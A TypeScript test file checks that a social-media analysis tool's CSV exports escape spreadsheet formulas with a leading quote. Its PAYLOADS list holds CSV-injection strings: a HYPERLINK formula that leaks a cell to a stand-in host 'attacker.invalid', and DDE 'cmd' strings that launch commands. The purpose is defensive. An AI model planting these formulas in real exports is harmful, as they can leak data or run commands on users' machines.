/**
 * Attack: posts whose text, handle, account id and mentions are spreadsheet formulas, exported
 * with `export posts --format csv` and opened in a spreadsheet. Every such cell must come out
 * with OWASP's leading single quote; the coordination edge list uses the same escape.
 */
import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import Papa from 'papaparse';
import { backends, type TestStore } from '../helpers/stores.ts';
import { runCli } from '../helpers/cli.ts';
import { ensureSource } from '../../src/store/queries/sources.ts';
import { csvField, defuseFormula } from '../../src/report/csv-safe.ts';
import { edgesCsv } from '../../src/detect/coordination/export.ts';

const PAYLOADS = [
  '=HYPERLINK("http://attacker.invalid/?leak="&A1,"click")',
  '+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
];

describe('csv-safe', () => {
  it('prefixes a quote to cells starting with = + - @ TAB CR, and leaves other text alone', () => {
    for (const p of PAYLOADS) assert.equal(defuseFormula(p), `'${p}`);
    assert.equal(defuseFormula('-5 degrees'), "'-5 degrees", 'OWASP\'s rule also catches a leading minus');
    for (const s of ['plain', ' =not first', '微博 1', 'a=b', '']) assert.equal(defuseFormula(s), s);
    assert.equal(csvField('=1,2'), '"\'=1,2"');
  });

  it('the coordination edge list uses the same escape', () => {
    const ref = (id: string) => ({ source: '=src', platform_post_id: id });
    const csv = edgesCsv({ nodes: [], edges: [{ source: '=cmd', target: '@x', weight: 2, edge_type: 'co_retweet', evidence: [[ref('+1'), ref('-2')]] }] });
    const rows = Papa.parse<string[]>(csv, { skipEmptyLines: true }).data;
    assert.deepEqual(rows[1]!.slice(0, 2), ["'=cmd", "'@x"]);
    // Evidence is a JSON array of [source, platform post id] pairs: it starts with "[", never a formula.
    assert.deepEqual(JSON.parse(rows[1]![4]!), [[['=src', '+1'], ['=src', '-2']]]);
  });
});

for (const b of backends()) {
  describe(`export posts --format csv defuses formulas [${b.label}]`, () => {
    let t: TestStore;
    before(async () => {
      t = await b.open();
      const src = await ensureSource(t.store, { name: 'hostile', kind: 'file', platform: 'test', config: {} });
      await t.store.bulkWriter().writePosts(Number(src.id), PAYLOADS.map((text, i) => ({
        platformPostId: `p${i}`, accountId: `=acct${i}`, accountHandle: `@handle${i}`, accountName: null, createdAt: 1_700_000_000_000 + i,
        text, language: null, url: null, replyToId: null, repostOfId: null, hashtags: null, urls: null, mentions: [`=m${i}`],
        status: 'visible', statusChangedAt: null, statusEvidence: null, extra: null,
      })), 1_700_000_100_000);
    });
    after(async () => { await t?.cleanup(); });

    it('every text, account, handle and mention cell that starts a formula gets a leading quote', () => {
      const r = runCli(['export', 'posts', '--format', 'csv', '--reveal-accounts'], t.env);
      assert.equal(r.status, 0, r.stderr);
      const rows = Papa.parse<Record<string, string>>(r.stdout, { header: true, skipEmptyLines: true }).data;
      assert.equal(rows.length, PAYLOADS.length);
      for (const row of rows) {
        const i = Number(row.platform_post_id!.slice(1));
        assert.equal(row.text, `'${PAYLOADS[i]}`, `text of p${i}`);
        assert.equal(row.account, `'=acct${i}`);
        assert.equal(row.handle, `'@handle${i}`);
        assert.equal(row.mentions, `'=m${i}`);
        for (const [col, cell] of Object.entries(row)) assert.doesNotMatch(cell ?? '', /^[=+\-@\t\r]/, `column ${col} of p${i}`);
      }
    });
  });
}
